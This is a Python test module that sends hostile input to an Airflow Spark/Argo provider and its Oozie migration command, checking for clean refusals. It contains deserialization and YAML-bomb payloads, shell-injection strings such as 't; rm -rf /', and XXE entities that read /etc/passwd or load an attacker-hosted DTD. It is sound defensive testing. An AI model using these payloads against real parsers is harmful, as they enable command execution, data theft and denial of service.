"""Hostile input: bad, huge, unicode and malicious values for every entry point a user feeds.

Each case is one row: (target, input, expected message fragment, expected exception type or exit code).
Three kinds of entry point, each checked the way a user meets it:

- DAG files: operator, sensor and timetable constructors. Every case is a DAG file; the folder is parsed
  as the DAG processor does (DagBag) and the case's import error must end in ``<exception>: ...<fragment>``.
- Tasks: bad values that only show once rendered or read (missing templates, unreadable or hostile manifest
  files). One ``dag.test()`` runs every case as a task; each must fail with ``<exception>: ...<fragment>``.
- ``sparkk8s migrate oozie``: the command runs in-process; the exit code and message are checked.

For every case nothing may be written or created: the emulator's objects (no write at all for DAG-file and
command cases, nothing labelled with the case's task id for task cases), the command's output directory
(a DAG that was already there stays, alone) and the case's scratch directory; and no shell ran a payload
(its marker file never appears).
"""

from __future__ import annotations

import contextlib
import io
import json
import random
import re
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.reliability.campaign import Result

SPARK = "from airflow_provider_sparkk8s.operators.spark import SparkK8sOperator as Spark\n"
ARGO = "from airflow_provider_sparkk8s.operators.argo import ArgoWorkflowOperator as Argo\n"
SENSORS = ("from airflow_provider_sparkk8s.sensors.spark import SparkK8sSensor\n"
           "from airflow_provider_sparkk8s.sensors.argo import ArgoWorkflowSensor\n"
           "from airflow_provider_sparkk8s.sensors.calendar import ArgoCalendarSensor\n")
TIMETABLE = "from airflow_provider_sparkk8s.timetables import ArgoCalendarTimetable as Cal\n"
HUGE = "x" * 200_000
MARKER = "hostile-marker"  # a payload that a shell or an unsafe loader ran would create this file
# Nine levels of nine aliases: 387 million strings once expanded; a safe reader must refuse it.
YAML_BOMB = "".join(f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9) if i else ', '.join(['lol'] * 9)}]\n"
                    for i in range(9))


@dataclass
class Case:
    name: str
    target: str  # "dag" (a DAG file's body), "task" (one task of a DAG run) or "cli" (argv after `migrate oozie`)
    given: str | Callable[[Path], list[str]]  # source code, or a function building argv in a scratch dir
    fragment: str
    expected: str | int  # exception type name, or the command's exit code


def dag_file(body: str, imports: str, dag_id: str) -> str:
    return (f"from datetime import datetime\nfrom airflow.sdk import DAG\n{imports}"
            f"with DAG({dag_id!r}, schedule=None, start_date=datetime(2026, 1, 1)) as dag:\n    {body}\n")


def dag_cases(files: Path) -> list[Case]:
    def spark(args: str, fragment: str, exc: str = "ValueError") -> tuple[str, str, str]:
        return f"Spark(task_id='t', application='local:///app.py', {args})", fragment, exc

    def argo(args: str, fragment: str, exc: str = "ValueError") -> tuple[str, str, str]:
        return f"Argo(task_id='t', {args})", fragment, exc

    def cal(args: str, fragment: str, exc: str = "InvalidArgoCalendar") -> tuple[str, str, str]:
        return f"pass\nwith DAG('tt', schedule=Cal({args}), start_date=datetime(2026, 1, 1)):\n    pass", \
            fragment, exc

    eventsource = files / "calendar.yaml"
    eventsource.write_text("apiVersion: argoproj.io/v1alpha1\nkind: EventSource\nmetadata: {name: cal}\nspec:\n"
                           "  calendar:\n    a: {schedule: '0 1 * * *'}\n    b: {schedule: '0 2 * * *'}\n")
    (files / "bomb.yaml").write_text("apiVersion: argoproj.io/v1alpha1\nkind: EventSource\nmetadata: {name: b}\n"
                                     "spec:\n  calendar:\n    e:\n      schedule: '0 1 * * *'\n      metadata:\n" +
                                     "".join(f"        {line}\n" for line in YAML_BOMB.splitlines()))
    (files / "python-tag.yaml").write_text(f"!!python/object/apply:os.system ['touch {files / MARKER}']\n")
    (files / "broken.yaml").write_text("kind: EventSource\nspec: {calendar: [\n")
    (files / "pod.yaml").write_text("kind: Pod\nmetadata: {name: p}\n")
    (files / "a-directory.yaml").mkdir()
    table = {
        # SparkK8sOperator
        "spark_unknown_launcher": spark("launcher='yarn'", "launcher: expected one of spark-submit, pod"),
        "spark_unicode_launcher": spark("launcher='spärk-\u202esubmit'", "launcher: expected one of"),
        "spark_huge_launcher": spark(f"launcher={HUGE!r}", "launcher: expected one of"),
        "spark_no_application": ("Spark(task_id='t')", "application: required", "ValueError"),
        "spark_manifest_without_operator": spark("spark_application_manifest={'kind': 'SparkApplication'}",
                                                 "spark_application_manifest: only used with"),
        "spark_pod_launcher_without_image": spark("launcher='pod'", "image: the pod launcher"),
        "spark_negative_startup_timeout": spark("startup_timeout_seconds=-1",
                                                "Task t: startup_timeout_seconds: expected a positive"),
        "spark_string_submit_timeout": spark("submit_timeout='10m'", "submit_timeout: expected a positive"),
        "spark_unknown_argument": spark("aplication_args=['1']", "Invalid arguments were passed to SparkK8sOperator",
                                        "TypeError"),
        "spark_args_as_string": spark("application_args='--date 2026-01-01'",
                                      "application_args: expected a list", "TypeError"),
        "spark_conf_as_string": spark("conf='spark.a=1'", "conf: expected a dict", "TypeError"),
        "spark_conf_key_with_space": spark("conf={'spark a': '1'}", "conf: invalid Spark property name"),
        "spark_conf_nested_value": spark("conf={'spark.a': {'b': 1}}", "conf: Spark properties are strings",
                                         "TypeError"),
        "spark_env_vars_as_list": spark("env_vars=['A=1']", "env_vars: expected a dict", "TypeError"),
        "spark_executor_instances_text": spark("executor_instances='many'", "executor_instances: expected an integer",
                                               "TypeError"),
        "spark_pull_policy": spark("image_pull_policy='Sometimes'", "image_pull_policy: expected Always"),
        "spark_mount_without_volume": spark("volume_mounts=[{'name': 'v', 'mountPath': '/v'}]",
                                            "volume_mounts: 'v' is not one of volumes"),
        "spark_invalid_task_id": ("Spark(task_id='t; rm -rf /', application='a.py')",
                                  "The key 't; rm -rf /' has to be made of alphanumeric", "ValueError"),
        # ArgoWorkflowOperator
        "argo_no_template": argo("", "set exactly one of workflow_template"),
        "argo_two_templates": argo("workflow_template='a', cluster_workflow_template='b'",
                                   "set exactly one of workflow_template"),
        "argo_kill_action": argo("workflow_template='a', kill_action='kill -9'", "kill_action: expected stop"),
        "argo_parameters_list": argo("workflow_template='a', parameters=['a=1']", "Task t: parameters: expected a dict",
                                     "TypeError"),
        "argo_parameters_string": argo("workflow_template='a', parameters='a=1'",
                                       "Task t: parameters: expected a dict", "TypeError"),
        "argo_negative_wait": argo("workflow_template='a', wait_timeout=-5", "wait_timeout: expected a positive"),
        "argo_unknown_argument": argo("workflow_template='a', paramters={}",
                                      "Invalid arguments were passed to ArgoWorkflowOperator", "TypeError"),
        "argo_huge_task_id": (f"Argo(task_id={HUGE!r}, workflow_template='a')",
                              "The key has to be less than 250 characters", "ValueError"),
        # Sensors
        "spark_sensor_nothing": ("SparkK8sSensor(task_id='s')", "set exactly one of driver_pod", "ValueError"),
        "spark_sensor_two": ("SparkK8sSensor(task_id='s', driver_pod='a', application_name='b')",
                             "set exactly one of driver_pod", "ValueError"),
        "argo_sensor_nothing": ("ArgoWorkflowSensor(task_id='s')", "set exactly one of workflow_name", "ValueError"),
        "argo_sensor_both": ("ArgoWorkflowSensor(task_id='s', workflow_name='a', label_selector='b=c')",
                             "set exactly one of workflow_name", "ValueError"),
        "calendar_sensor_both": ("ArgoCalendarSensor(task_id='s', calendar={'schedule': '* * * * *'}, "
                                 "event_source='e')", "set exactly one of calendar, event_source", "ValueError"),
        "calendar_sensor_bad_cron": ("ArgoCalendarSensor(task_id='s', calendar={'schedule': '61 * * * *'})",
                                     "calendar:", "ValueError"),
        "calendar_sensor_bad_zone": ("ArgoCalendarSensor(task_id='s', calendar={'schedule': '0 1 * * *', "
                                     "'timezone': 'Mars/Olympus_Mons'})", "Mars/Olympus_Mons", "ValueError"),
        "calendar_sensor_bad_interval": ("ArgoCalendarSensor(task_id='s', calendar={'interval': '1fortnight'})",
                                         "1fortnight", "ValueError"),
        "calendar_sensor_not_mapping": ("ArgoCalendarSensor(task_id='s', calendar='0 1 * * *')",
                                        "Task s: calendar: expected a dict", "TypeError"),
        # ArgoCalendarTimetable
        "timetable_nothing": cal("", "needs exactly one of calendar="),
        "timetable_both": cal(f"{{'schedule': '* * * * *'}}, event_source_file={str(eventsource)!r}",
                              "needs exactly one of calendar="),
        "timetable_not_mapping": cal("'0 1 * * *'", "calendar must be a mapping"),
        "timetable_bad_cron": cal("{'schedule': '0 25 * * *'}", "calendar:"),
        "timetable_never_fires": cal("{'schedule': '0 0 30 2 *'}", "never fires"),
        "timetable_unicode_zone": cal("{'schedule': '0 1 * * *', 'timezone': 'Éurope/Åmsterdam'}", "Åmsterdam"),
        "timetable_huge_schedule": cal(f"{{'schedule': {HUGE!r}}}", "calendar:"),
        "timetable_negative_interval": cal("{'schedule': '0 1 * * *'}, interval=__import__('datetime')"
                                           ".timedelta(-1)", "interval must be a non-negative"),
        "timetable_missing_file": cal(f"event_source_file={str(files / 'nope.yaml')!r}", "nope.yaml: no such file"),
        "timetable_unreadable_file": cal(f"event_source_file={str(files / 'a-directory.yaml')!r}",
                                         "a-directory.yaml: cannot read it"),
        "timetable_invalid_yaml": cal(f"event_source_file={str(files / 'broken.yaml')!r}",
                                      "broken.yaml: invalid YAML at line 3"),
        "timetable_python_tag": cal(f"event_source_file={str(files / 'python-tag.yaml')!r}",
                                    "python-tag.yaml: invalid YAML"),
        "timetable_yaml_bomb": cal(f"event_source_file={str(files / 'bomb.yaml')!r}", "bomb.yaml"),
        "timetable_wrong_kind": cal(f"event_source_file={str(files / 'pod.yaml')!r}",
                                    "no document of kind EventSource (found: Pod)"),
        "timetable_ambiguous_event": cal(f"event_source_file={str(eventsource)!r}",
                                         "it has 2 calendar events (a, b); choose one with event_name="),
        "timetable_unknown_event": cal(f"event_source_file={str(eventsource)!r}, event_name='c; reboot'",
                                       "no calendar event 'c; reboot'; it has: a, b"),
    }
    imports = SPARK + ARGO + SENSORS + TIMETABLE
    return [Case(name, "dag", dag_file(body, imports, name), fragment, exc)
            for name, (body, fragment, exc) in table.items()]


def fuzz_cases(seed: int, count: int) -> list[Case]:
    """Seeded random hostile strings (control characters, quotes, shell syntax, unicode, huge) for arguments
    with a closed set of values: each must be refused at parse time, naming the argument."""
    rng = random.Random(seed)
    alphabet = "\x00\x07\n\r\t \"'`$(){}[];|&<>\\*?~#%=,.:/-_aZ9éß中🙂\u202e\ufeff"
    targets = [
        ("Spark(task_id='t', application='a.py', launcher={v!r})", "launcher: expected one of", "ValueError"),
        ("Spark(task_id='t', application='a.py', image_pull_policy={v!r})", "image_pull_policy: expected",
         "ValueError"),
        ("Argo(task_id='t', workflow_template='a', kill_action={v!r})", "kill_action: expected stop", "ValueError"),
        ("pass\nwith DAG('tt', schedule=Cal({{'schedule': {v!r}}}), start_date=datetime(2026, 1, 1)):\n    pass",
         "calendar:", "InvalidArgoCalendar"),
    ]
    imports = SPARK + ARGO + SENSORS + TIMETABLE
    cases = []
    for i in range(count):
        length = rng.choice([1, 8, 64, 5000])
        # Never valid by chance, and never a Jinja template (those are checked when rendered).
        value = "".join(rng.choice(alphabet) for _ in range(length)).replace("{{", "{") + "☃"

        body, fragment, exc = targets[i % len(targets)]
        cases.append(Case(f"fuzz_{i}", "dag", dag_file(body.format(v=value), imports, f"fuzz_{i}"), fragment, exc))
    return cases


def task_cases(files: Path) -> list[Case]:
    """Values an operator only sees when it runs: each is one task, failing before anything is created."""

    def write(name: str, text: str) -> str:  # found through the DAG's template_searchpath (check_task_cases)
        (files / name).write_text(text)
        return name

    def write_dir(name: str) -> str:
        (files / name).mkdir()
        return name

    workflow = "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nmetadata: {generateName: w-}\n"
    POD = "kind: Pod\n"  # noqa: N806
    hello = "spec:\n  entrypoint: main\n  templates:\n  - {name: main, container: {image: busybox}}\n"
    python_tag = f"!!python/object/apply:os.system ['touch {files / MARKER}']\n"
    bad_entry = hello.replace("entrypoint: main", "entrypoint: x")
    table = {
        "argo_missing_template": ("Argo(task_id='argo_missing_template', workflow_template='nope')",
                                  "WorkflowTemplate 'nope' not found in namespace default"),
        "argo_missing_template_server": ("Argo(task_id='argo_missing_template_server', workflow_template='nope', "
                                         "argo_conn_id='argo_workflows_default')",
                                         "WorkflowTemplate 'nope' not found in namespace default"),
        "argo_missing_cluster_template": ("Argo(task_id='argo_missing_cluster_template', "
                                          "cluster_workflow_template='nope')", "ClusterWorkflowTemplate 'nope' not"),
        "argo_unknown_parameter": ("Argo(task_id='argo_unknown_parameter', workflow_template='pipeline', "
                                   "parameters={'dataset': 'd', 'dataset; rm -rf /': 'x'})",
                                   "parameters: dataset; rm -rf / is not declared by WorkflowTemplate pipeline"),
        "argo_missing_parameter": ("Argo(task_id='argo_missing_parameter', workflow_template='pipeline')",
                                   "parameters: WorkflowTemplate pipeline requires a value for dataset"),
        "argo_enum_violation": ("Argo(task_id='argo_enum_violation', workflow_template='pipeline', "
                                "parameters={'dataset': 'd', 'mode': 'fast\\nfull'})",
                                "parameters: mode='fast\\nfull' is not one of ['fast', 'full']"),
        "argo_workflow_file_missing": ("Argo(task_id='argo_workflow_file_missing', workflow='nope.yaml')",
                                       "workflow: nope.yaml not found in the DAG folder or template_searchpath"),
        "argo_workflow_file_is_dir": (f"Argo(task_id='argo_workflow_file_is_dir', "
                                      f"workflow={write_dir('a-dir.yaml')!r})", "workflow: a-dir.yaml not found"),
        "argo_workflow_invalid_yaml": (f"Argo(task_id='argo_workflow_invalid_yaml', "
                                       f"workflow={write('bad.yaml', workflow + 'spec: [')!r})",
                                       "workflow: not valid YAML"),
        "argo_workflow_python_tag": (f"Argo(task_id='argo_workflow_python_tag', "
                                     f"workflow={write('tag.yaml', python_tag)!r})", "workflow: not valid YAML"),
        "argo_workflow_yaml_bomb": (f"Argo(task_id='argo_workflow_yaml_bomb', "
                                    f"workflow={write('wf-bomb.yaml', workflow + hello + YAML_BOMB)!r})",
                                    "workflow: not valid YAML"),
        "argo_workflow_wrong_kind": (f"Argo(task_id='argo_workflow_wrong_kind', "
                                     f"workflow={write('pod.yaml', 'kind: Pod')!r})",
                                     "workflow: expected a Workflow manifest"),
        "argo_workflow_bad_field": ("Argo(task_id='argo_workflow_bad_field', workflow={'apiVersion': "
                                    "'argoproj.io/v1alpha1', 'kind': 'Workflow', 'metadata': {'name': 'w'}, "
                                    "'spec': {'templates': 'all'}})",
                                    "workflow: invalid manifest at spec.templates"),
        "argo_workflow_bad_entrypoint": (f"Argo(task_id='argo_workflow_bad_entrypoint', workflow="
                                         f"{write('entry.yaml', workflow + bad_entry)!r})",
                                         "spec.entrypoint: 'x' is not one of spec.templates (main)"),
        "argo_workflow_bad_jinja": ("Argo(task_id='argo_workflow_bad_jinja', workflow={'apiVersion': "
                                    "'argoproj.io/v1alpha1', 'kind': 'Workflow', 'metadata': {'name': '{{ x( }}'}})",
                                    "workflow: cannot render"),
        "spark_driver_template_missing": ("Spark(task_id='spark_driver_template_missing', application='a.py', "
                                          "driver_pod_template='nope.yaml')",
                                          "driver_pod_template: nope.yaml not found in the DAG folder"),
        "spark_driver_template_not_pod": ("Spark(task_id='spark_driver_template_not_pod', application='a.py', "
                                          f"driver_pod_template={write('wf.yaml', workflow)!r})",
                                          "driver_pod_template: expected a Pod manifest"),
        "spark_driver_template_python_tag": ("Spark(task_id='spark_driver_template_python_tag', application='a.py', "
                                             f"driver_pod_template={write('pod-tag.yaml', python_tag)!r})",
                                             "driver_pod_template: not valid YAML"),
        "spark_driver_template_yaml_bomb": ("Spark(task_id='spark_driver_template_yaml_bomb', application='a.py', "
                                            f"driver_pod_template={write('pod-bomb.yaml', POD + YAML_BOMB)!r})",
                                            "driver_pod_template: not valid YAML"),
        "spark_manifest_invalid_yaml": ("Spark(task_id='spark_manifest_invalid_yaml', launcher='spark-operator', "
                                        f"spark_application_manifest={write('app.yaml', 'kind: [')!r})",
                                        "spark_application_manifest: not valid YAML"),
        "spark_manifest_wrong_kind": ("Spark(task_id='spark_manifest_wrong_kind', launcher='spark-operator', "
                                      f"spark_application_manifest={write('app-pod.yaml', 'kind: Pod')!r})",
                                      "spark_application_manifest: expected a SparkApplication manifest"),
    }
    return [Case(name, "task", body, fragment, "AirflowException") for name, (body, fragment) in table.items()]


def cli_cases(corpus: Path) -> list[Case]:
    """`sparkk8s migrate oozie` on bad, hostile and unreadable applications."""

    def app(files: dict[str, str | bytes]) -> Callable[[Path], Path]:
        def build(scratch: Path) -> Path:
            folder = scratch / "app"
            folder.mkdir()
            for name, text in files.items():
                target = folder / name
                if name.endswith("/"):
                    target.mkdir()
                elif isinstance(text, bytes):
                    target.write_bytes(text)
                else:
                    target.write_text(text)
            return folder
        return build

    def migrate(source: Callable[[Path], Path] | Path, *extra: str, to: str = "airflow") -> Callable[[Path], list[str]]:
        def argv(scratch: Path) -> list[str]:
            path = source(scratch) if callable(source) else source
            return [str(path), "--to", to, "--out", str(scratch / "out"), *extra]
        return argv

    def wf(body: str, name: str = "w", version: str = "0.5") -> str:
        return (f'<workflow-app xmlns="uri:oozie:workflow:{version}" name="{name}">\n{body}\n'
                '<kill name="fail"><message>failed</message></kill>\n<end name="end"/>\n</workflow-app>\n')

    start = '<start to="end"/>'
    fs_action = ('<action name="{name}"><fs><mkdir path="/tmp/x"/></fs><ok to="{to}"/><error to="fail"/>'
                 '</action>')
    nested = "<a>" * 50_000 + "</a>" * 50_000
    spark_action = ('<action name="s"><spark xmlns="uri:oozie:spark-action:0.2"><master>yarn</master>'
                    '<name>s</name><jar>app.py</jar>{extra}</spark><ok to="end"/><error to="fail"/></action>')
    table: dict[str, tuple[Callable[[Path], list[str]], str, int]] = {
        **{f"oozie_{name}": (migrate(corpus / "bad" / name), expected, 1) for name, expected in {
            "dangling": "workflow.xml:6 (action first)", "cycle": "cycle: a -> b -> a",
            "unreachable": "node 'orphan' is not reachable", "fork-join-mismatch": "reach different joins",
            "unknown-version": "unsupported schema 'uri:oozie:workflow:0.9'",
            "malformed": "workflow.xml:6 (XML): error: malformed XML: mismatched tag",
            "duplicate-names": "duplicate node name 'step'", "unknown-root": "unknown root element <project>",
            "property-cycle": "job.properties:2 (property a)", "xxe": "refused unsafe XML: entity declaration",
            "billion-laughs": "refused unsafe XML: entity declaration",
            "bad-frequency": "unrecognized frequency"}.items()},
        "oozie_external_dtd": (migrate(app({"workflow.xml": '<?xml version="1.0"?>\n<!DOCTYPE w SYSTEM '
                                            '"http://attacker.invalid/evil.dtd">\n' + wf(start, name="&ext;")})),
                               "workflow.xml:2 (XML): error: refused unsafe XML: external DTD", 1),
        "oozie_public_dtd": (migrate(app({"workflow.xml": '<?xml version="1.0"?>\n<!DOCTYPE w PUBLIC "-//X//EN" '
                                          '"file:///etc/passwd">\n' + wf(start)})),
                             "workflow.xml:2 (XML): error: refused unsafe XML: external DTD", 1),
        "oozie_parameter_entity": (migrate(app({"workflow.xml": '<?xml version="1.0"?>\n<!DOCTYPE w [\n'
                                                '<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>\n' + wf(start)})),
                                   "refused unsafe XML", 1),
        "oozie_external_entity_in_properties": (
            migrate(app({"workflow.xml": wf(start), "config-default.xml": '<?xml version="1.0"?>\n<!DOCTYPE c [\n'
                         '<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<configuration><property><name>a</name>'
                         '<value>&x;</value></property></configuration>'})),
            "config-default.xml:3 (XML): error: refused unsafe XML", 1),
        "oozie_not_utf8": (migrate(app({"workflow.xml": b'<?xml version="1.0" encoding="UTF-8"?>\n'
                                        b'<workflow-app xmlns="uri:oozie:workflow:0.5" name="\xff\xfe">'})),
                           "workflow.xml:2 (XML): error: malformed XML: not well-formed (invalid token)", 1),
        "oozie_empty_file": (migrate(app({"workflow.xml": ""})), "workflow.xml:1 (XML): error: malformed XML", 1),
        "oozie_deeply_nested": (migrate(app({"workflow.xml": wf(start + f"<x>{nested}</x>")})),
                                "workflow.xml:2 (x): error: unknown workflow element <x>", 1),
        "oozie_deeply_nested_configuration": (migrate(app({"workflow.xml": wf('<start to="s"/>' + spark_action.format(
            extra=f"<configuration>{nested}</configuration>"))})), "Wrote: w.py", 0),
        "oozie_huge_name": (migrate(app({"workflow.xml": wf(start, name=HUGE)})),
                            "workflow.xml:1 (workflow-app): error: application name is 200000 characters long", 1),
        "oozie_path_escape_name": (migrate(app({"workflow.xml": wf(start, name="../../escape")})),
                                   "Wrote: ______escape.py", 0),
        "oozie_unicode_node_name": (migrate(app({"workflow.xml": wf('<start to="ßtep"/>' + fs_action.format(
            name="ßtep", to="end"))})), "invalid node name 'ßtep'", 1),
        "oozie_self_loop": (migrate(app({"workflow.xml": wf('<start to="a"/>' + fs_action.format(
            name="a", to="a"))})), "cycle: a -> a", 1),
        "oozie_unknown_action_type": (migrate(app({"workflow.xml": wf(
            '<start to="a"/><action name="a"><nuke xmlns="uri:custom:nuke:0.1"/><ok to="end"/>'
            '<error to="fail"/></action>')}), to="argo"),
            "workflow.xml:2 (action a): unsupported: action type <nuke> (uri:custom:nuke:0.1) is not converted", 0),
        "oozie_spark_opts_unbalanced_quote": (migrate(app({"workflow.xml": wf('<start to="s"/>' + spark_action.format(
            extra='<spark-opts>--conf "spark.a=1 ; touch x</spark-opts>'))})), "Wrote: w.py", 0),
        "oozie_missing_sub_workflow": (migrate(app({"workflow.xml": wf(
            '<start to="sub"/><action name="sub"><sub-workflow><app-path>${nameNode}/missing</app-path>'
            '</sub-workflow><ok to="end"/><error to="fail"/></action>')})),
            "workflow.xml:2 (action sub): unsupported: sub-workflow app path '${nameNode}/missing' was not found", 0),
        "oozie_coordinator_missing_workflow": (migrate(app({"coordinator.xml": (
            '<coordinator-app xmlns="uri:oozie:coordinator:0.4" name="c" frequency="${coord:days(1)}" '
            'start="2026-01-01T00:00Z" end="2027-01-01T00:00Z" timezone="UTC"><action><workflow>'
            '<app-path>${nameNode}/nowhere</app-path></workflow></action></coordinator-app>')})),
            "coordinator.xml:1 (coordinator c workflow): unsupported: workflow app path", 0),
        "oozie_bundle_missing_coordinator": (migrate(app({"bundle.xml": (
            '<bundle-app xmlns="uri:oozie:bundle:0.2" name="b"><coordinator name="c"><app-path>'
            '${nameNode}/gone/coordinator.xml</app-path></coordinator></bundle-app>')})),
            "bundle.xml:1 (bundle coordinator c): unsupported: coordinator app path", 0),
        "oozie_unreadable_workflow": (migrate(app({"workflow.xml/": ""})),
                                      "workflow.xml (XML): error: cannot read file: Is a directory", 1),
        "oozie_unreadable_properties": (migrate(app({"workflow.xml": wf(start), "job.properties/": ""})),
                                        "job.properties (job properties): error: cannot read properties file", 1),
        "oozie_unreadable_defaults": (migrate(app({"workflow.xml": wf(start), "config-default.xml/": ""})),
                                      "config-default.xml (XML): error: cannot read file", 1),
        "oozie_properties_unicode_and_escapes": (migrate(app({"workflow.xml": wf(start, name="${n}"),
                                                              "job.properties": "n=\\u0000\\uZZZZ\n"})),
                                                 "job.properties:1 (job properties): error: malformed \\uXXXX", 1),
        "oozie_missing_properties_file": (migrate(corpus / "spark-etl", "--properties", "/nonexistent/job.properties"),
                                          "job.properties", 1),
        "oozie_missing_source": (migrate(lambda scratch: scratch / "nothing-here"), "no such file or directory", 1),
        "oozie_empty_directory": (migrate(app({})), "no workflow.xml, coordinator.xml or bundle.xml", 1),
        "oozie_out_is_a_file": (lambda scratch: [str(corpus / "spark-etl"), "--to", "argo", "--out",
                                                 str(_touch(scratch / "out.txt"))],
                                "out.txt: exists and is not a directory", 1),
        "oozie_unknown_target": (migrate(corpus / "spark-etl", to="luigi"), "invalid choice: 'luigi'", 2),
        "oozie_bad_action_image": (migrate(corpus / "spark-etl", "--action-image", "shell"),
                                   "expected ACTION=IMAGE", 2),
        "oozie_unknown_option": (migrate(corpus / "spark-etl", "--dry-rn"), "unrecognized arguments: --dry-rn", 2),
    }
    return [Case(name, "cli", argv, fragment, code) for name, (argv, fragment, code) in table.items()]


def _touch(path: Path) -> Path:
    path.write_text("not a directory\n")
    return path


# ---------------------------------------------------------------------------------------------- checks


def _raised(text: str, exc: str, fragment: str) -> bool:
    """The text shows `exc` raised with a message containing `fragment` (message lines may wrap)."""
    for match in re.finditer(rf"(?:^|[\s.]){re.escape(exc)}: ", text):
        if fragment in text[match.end():match.end() + len(fragment) + 4000]:
            return True
    return False


def _tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def _last_error_line(text: str) -> str:
    lines = [line for line in text.splitlines() if re.match(r"^[\w.]+(Error|Exception|Invalid\w*): ", line)]
    return (lines[-1] if lines else text.strip().splitlines()[-1] if text.strip() else "")[:300]


def check_dag_cases(cases: list[Case], result: Result, kube: object) -> None:
    from tests.reliability.airflow_runs import parse_dag_files

    before = kube.store.resource_version  # type: ignore[attr-defined]
    errors = parse_dag_files({f"{case.name}.py": str(case.given) for case in cases})
    for case in cases:
        result.trials += 1
        error = errors.get(f"{case.name}.py")
        if error is None:
            result.violate(f"{case.name}: the DAG file parsed without error; expected {case.expected}: "
                           f"...{case.fragment}")
        elif not _raised(error, str(case.expected), case.fragment):
            result.violate(f"{case.name}: import error {_last_error_line(error)!r}; expected "
                           f"{case.expected}: ...{case.fragment!r}")
    if kube.store.resource_version != before:  # type: ignore[attr-defined]
        result.violate("dag files: parsing the DAG files wrote to the cluster")


def check_task_cases(cases: list[Case], result: Result, kube: object, files: Path) -> None:
    from tests.reliability.airflow_runs import run_dag

    created: list[tuple[str, str]] = []

    def record(event_type: str, rt: object, obj: dict, old: object) -> None:
        if event_type == "ADDED" and rt.plural not in ("events", "namespaces"):  # type: ignore[attr-defined]
            labels = obj.get("metadata", {}).get("labels") or {}
            created.append((labels.get("sparkk8s.io/task-id", "?"), f"{rt.kind} {obj['metadata'].get('name')}"))

    kube.store.add_listener(record)  # type: ignore[attr-defined]
    before = kube.store.resource_version  # type: ignore[attr-defined]
    run = run_dag("\n".join(str(case.given) for case in cases), SPARK + ARGO, template_searchpath=[str(files)])
    if kube.store.resource_version != before:  # type: ignore[attr-defined]
        result.violate(f"task cases: {kube.store.resource_version - before} writes to the cluster "  # type: ignore[attr-defined]
                       f"({', '.join(what for _, what in created) or 'updates only'}); expected none")
    for case in cases:
        result.trials += 1
        state, output = run.states.get(case.name), run.task_output(case.name)
        if state != "failed":
            result.violate(f"{case.name}: task ended {state}; expected failed with {case.expected}: "
                           f"...{case.fragment}")
        # A bad argument fails without retries (AirflowFailException); the cluster's refusals may be retried.
        elif not any(_raised(output, exc, case.fragment) for exc in (str(case.expected), "AirflowFailException")):
            result.violate(f"{case.name}: task failed with {_last_error_line(output)!r}; expected "
                           f"{case.expected}: ...{case.fragment!r}")
        made = [what for task, what in created if task in (case.name, "?")]
        if made:
            result.violate(f"{case.name}: created {', '.join(made)}; expected nothing created")


def _invalid_outputs(files: dict[str, bytes]) -> list[str]:
    """Problems of generated files: a DAG that does not import, a manifest that is not YAML."""
    from airflow_provider_sparkk8s.safe_yaml import safe_load_all
    from tests.reliability.airflow_runs import parse_dag_files

    problems = []
    dags = {Path(name).name: text.decode() for name, text in files.items() if name.endswith(".py")}
    for name, error in parse_dag_files(dags).items():
        problems.append(f"wrote {name}, which does not import: {_last_error_line(error)!r}")
    for name, text in files.items():
        if name.endswith((".yaml", ".yml")):
            try:
                safe_load_all(text.decode())
            except Exception as exc:  # noqa: BLE001 - any failure is the finding
                problems.append(f"wrote {name}, which is not YAML: {exc}")
    return problems


def check_cli_cases(cases: list[Case], result: Result, kube: object) -> None:
    from airflow_provider_sparkk8s.cli import main

    for case in cases:
        result.trials += 1
        with tempfile.TemporaryDirectory(prefix="sparkk8s-hostile-") as scratch_dir:
            scratch = Path(scratch_dir)
            argv = case.given(scratch)  # type: ignore[operator]
            out = scratch / "out"
            if not out.exists():
                out.mkdir()
                (out / "existing.py").write_text("# a DAG that was already there\n")
            before, rv = _tree(scratch), kube.store.resource_version  # type: ignore[attr-defined]
            stdout, stderr = io.StringIO(), io.StringIO()
            began = time.monotonic()
            try:
                with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
                    code: object = main(["migrate", "oozie", *argv])
            except SystemExit as exc:
                code = exc.code
            except BaseException as exc:  # noqa: BLE001 - a traceback is the defect this campaign looks for
                code = f"traceback {type(exc).__name__}: {str(exc)[:200]}"
            seconds = time.monotonic() - began
            message = stderr.getvalue() if case.expected else stdout.getvalue()
            if code != case.expected:
                result.violate(f"{case.name}: exit {code}; expected exit {case.expected} with ...{case.fragment!r} "
                               f"(stderr: {message[-300:]!r})")
            elif case.fragment not in message:
                result.violate(f"{case.name}: stderr {message[-300:]!r}; expected ...{case.fragment!r}")
            if "Traceback" in message:
                result.violate(f"{case.name}: a traceback on stderr; expected a message")
            after = _tree(scratch)
            if code == 0 == case.expected:  # hostile but convertible: only new, valid files in the output directory
                written = {name: after.pop(name) for name in set(after) - set(before) if name.startswith("out/")}
                for problem in _invalid_outputs(written):
                    result.violate(f"{case.name}: {problem}; expected a valid DAG or manifest")
            if after != before:
                changed = sorted(set(after) ^ set(before) | {k for k in after if before.get(k) != after[k]})
                result.violate(f"{case.name}: wrote {', '.join(changed)}; expected nothing written")
            if kube.store.resource_version != rv:  # type: ignore[attr-defined]
                result.violate(f"{case.name}: the command wrote to the cluster")
            if seconds > 30:
                result.violate(f"{case.name}: took {seconds:.0f}s; a hostile file must be refused quickly")


def run(size: str, seed: int) -> Result:
    from tests.airflow.argo_support import CLUSTER_TEMPLATE, NS, PIPELINE
    from tests.reliability.airflow_runs import airflow_home, emulator

    result = Result("hostile_input")
    corpus = Path(__file__).resolve().parent.parent / "migrate" / "corpus"
    airflow_home()
    with tempfile.TemporaryDirectory(prefix="sparkk8s-hostile-files-") as folder, \
            emulator(namespaces=["spark-jobs"], pod_run_seconds=0.1) as kube:
        files = Path(folder)
        kube.apply([PIPELINE], NS)
        kube.apply(CLUSTER_TEMPLATE)
        dags, tasks, clis = dag_cases(files), task_cases(files), cli_cases(corpus)
        dags += fuzz_cases(seed, 12 if size == "short" else 200)
        began = time.monotonic()
